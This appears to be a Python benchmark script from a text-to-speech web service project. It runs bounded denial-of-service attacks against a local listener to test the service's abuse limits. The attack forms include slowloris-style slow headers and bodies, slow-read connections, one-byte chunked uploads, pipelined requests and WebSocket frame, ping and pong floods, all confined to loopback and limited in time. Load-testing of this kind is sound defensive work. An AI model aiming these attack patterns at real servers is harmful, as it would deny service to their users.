"""``python -m benchmarks.abuse.attacks FORM PORT SECONDS``: run one attack from one address, bounded in count and time.

It runs in a separate process, so that it does not slow down the measured listener, and connects only to 127.0.0.1.
"""

import argparse
import asyncio
import base64
import os
import re
import resource
import socket
import sys
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass, field
from urllib.parse import urlencode

HOST = "127.0.0.1"
ATTACKER = "127.0.0.2"
"""A second loopback address, because limits are counted by address."""
LONG_TEXT = (
    "This is a long text of an attacker, who requests the whole recording and then never reads the response. " * 9
)
CONNECTIONS = 300
BODIES = 2500
BODY = 100_000
READ = 64 * 1024
CONNECT_S = 10.0


@dataclass
class Attack:
    """Opens the connections of one attacker, and closes all of them at its end."""

    port: int
    until: float
    open: list[socket.socket] = field(default_factory=list)

    @property
    def is_running(self) -> bool:
        """Return whether the attack continues."""
        return time.monotonic() < self.until

    async def connect(self, window: int | None = None) -> socket.socket:
        """Open a connection with a receive buffer of ``window`` bytes. Raises ``OSError``."""
        connection = socket.socket()
        connection.settimeout(0)
        if window:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
        connection.bind((ATTACKER, 0))
        self.open.append(connection)
        await asyncio.wait_for(asyncio.get_running_loop().sock_connect(connection, (HOST, self.port)), CONNECT_S)
        return connection

    async def send(self, to: socket.socket, data: bytes) -> None:
        """Send all of ``data``. Raises ``OSError`` if disconnected, ``TimeoutError`` if the server does not read."""
        await asyncio.wait_for(asyncio.get_running_loop().sock_sendall(to, data), CONNECT_S)

    async def ask(self, request: bytes) -> bytes:
        """Return the whole response. Raises ``OSError``."""
        connection = await self.connect()
        await self.send(connection, request)
        answer = bytearray()
        while part := await asyncio.get_running_loop().sock_recv(connection, READ):
            answer += part
        return bytes(answer)

    def head(self, line: str, *lines: str) -> bytes:
        """Return the start of a request."""
        return "\r\n".join([f"{line} HTTP/1.1", f"Host: {HOST}:{self.port}", *lines, "", ""]).encode()

    async def run_concurrently(self, number: int, attack_once: Callable[[], Awaitable[None]]) -> None:
        """Run ``attack_once`` concurrently, each until disconnected or the time is over; then stay connected."""
        await asyncio.gather(*(self._one(attack_once) for _ in range(number)))
        await asyncio.sleep(max(0.0, self.until - time.monotonic()))

    async def _one(self, attack_once: Callable[[], Awaitable[None]]) -> None:
        with suppress(OSError, TimeoutError):
            await attack_once()


def _frame(kind: int, payload: bytes = b"") -> bytes:
    return bytes([kind, 0x80 | len(payload)]) + bytes(4) + payload


async def _socket(attack: Attack) -> socket.socket:
    key = base64.b64encode(os.urandom(16)).decode()
    upgrade_headers = (
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Version: 13",
        f"Sec-WebSocket-Key: {key}",
    )
    connection = await attack.connect()
    await attack.send(connection, attack.head("GET /ws/terminal/", *upgrade_headers))
    await asyncio.wait_for(asyncio.get_running_loop().sock_recv(connection, 1024), CONNECT_S)
    return connection


def _flood(begin: bytes, frame: bytes, sockets: int) -> Callable[[Attack], Awaitable[None]]:
    async def attack_with(attack: Attack) -> None:
        async def attack_once() -> None:
            # Reconnect after the server disconnects.
            while attack.is_running:
                with suppress(OSError, TimeoutError):
                    connection = await _socket(attack)
                    await attack.send(connection, begin)
                    while attack.is_running:
                        await attack.send(connection, frame * (READ // len(frame)))
                await asyncio.sleep(0.1)

        await attack.run_concurrently(sockets, attack_once)

    return attack_with


async def _readers(attack: Attack) -> None:
    """Request one recording on many connections that read nothing (slow read)."""
    form = urlencode({"text": LONG_TEXT, "speed": "0.5"}).encode()
    kind = "Content-Type: application/x-www-form-urlencoded"
    page = await attack.ask(attack.head("POST /", kind, f"Content-Length: {len(form)}", "Connection: close") + form)
    found = re.search(rb"/spoken/[\w.-]+", page)
    if found is None:
        raise SystemExit(f"no recording: {page[:300]!r}")
    path = found[0].decode()
    # Read once completely, so that the recording exists when the other connections request it.
    recording = await attack.ask(attack.head(f"GET {path}", "Connection: close"))
    sys.stdout.write(f"the recording has {len(recording)} bytes\n")

    async def attack_once() -> None:
        reader = await attack.connect(window=4096)
        await attack.send(reader, attack.head(f"GET {path}"))

    await attack.run_concurrently(CONNECTIONS, attack_once)


async def _streams(attack: Attack) -> None:
    """Request streamed speech on connections that read nothing (slow read)."""
    body = (f'{{"model":"tts-1","voice":"joe","input":"{LONG_TEXT}"}}').encode()
    lines = ("Content-Type: application/json", f"Content-Length: {len(body)}")

    async def attack_once() -> None:
        reader = await attack.connect(window=4096)
        await attack.send(reader, attack.head("POST /v1/audio/speech", *lines) + body)

    await attack.run_concurrently(CONNECTIONS, attack_once)


async def _bodies(attack: Attack) -> None:
    """Send all of a body except its last byte."""

    async def attack_once() -> None:
        connection = await attack.connect()
        lines = ("Content-Type: application/json", f"Content-Length: {BODY}")
        await attack.send(connection, attack.head("POST /v1/audio/speech", *lines) + b"x" * (BODY - 100))
        while attack.is_running:
            await asyncio.sleep(10)
            await attack.send(connection, b"x")

    await attack.run_concurrently(BODIES, attack_once)


async def _headers(attack: Attack) -> None:
    """Send a header one byte at a time (slow request)."""

    async def attack_once() -> None:
        connection = await attack.connect()
        await attack.send(connection, b"GET / HTTP/1.1\r\nX: ")
        while attack.is_running:
            await asyncio.sleep(5)
            await attack.send(connection, b"x")

    await attack.run_concurrently(BODIES, attack_once)


async def _chunks(attack: Attack) -> None:
    """Send bodies in chunks of one byte."""

    async def attack_once() -> None:
        while attack.is_running:
            with suppress(OSError, TimeoutError):
                connection = await attack.connect()
                await attack.send(connection, attack.head("POST /v1/audio/speech", "Transfer-Encoding: chunked"))
                while attack.is_running:
                    await attack.send(connection, b"1\r\nx\r\n" * (READ // 6))
            await asyncio.sleep(0.1)

    await attack.run_concurrently(20, attack_once)


async def _pipelined(attack: Attack) -> None:
    """Pipeline as many requests as the connection takes, and read no response."""

    async def attack_once() -> None:
        while attack.is_running:
            with suppress(OSError, TimeoutError):
                connection = await attack.connect(window=4096)
                request = attack.head("GET /healthz")
                while attack.is_running:
                    await attack.send(connection, request * (READ // len(request)))
            await asyncio.sleep(0.1)

    await attack.run_concurrently(20, attack_once)


PING, PONG, BEGINS, GOES_ON = 0x89, 0x8A, 0x01, 0x00
FORMS: dict[str, Callable[[Attack], Awaitable[None]]] = {
    "frames": _flood(_frame(BEGINS, b"x"), _frame(GOES_ON), 5),
    "pongs": _flood(b"", _frame(PONG), 5),
    "pings": _flood(b"", _frame(PING, b"x" * 125), 5),
    "readers": _readers,
    "streams": _streams,
    "bodies": _bodies,
    "headers": _headers,
    "chunks": _chunks,
    "pipelined": _pipelined,
}


async def _run(form: str, port: int, seconds: float) -> None:
    attack = Attack(port, time.monotonic() + seconds)
    try:
        with suppress(TimeoutError):
            await asyncio.wait_for(FORMS[form](attack), seconds)
    finally:
        for connection in attack.open:
            connection.close()


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("form", choices=FORMS)
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    options = parser.parse_args()
    asyncio.run(_run(options.form, options.port, options.seconds))
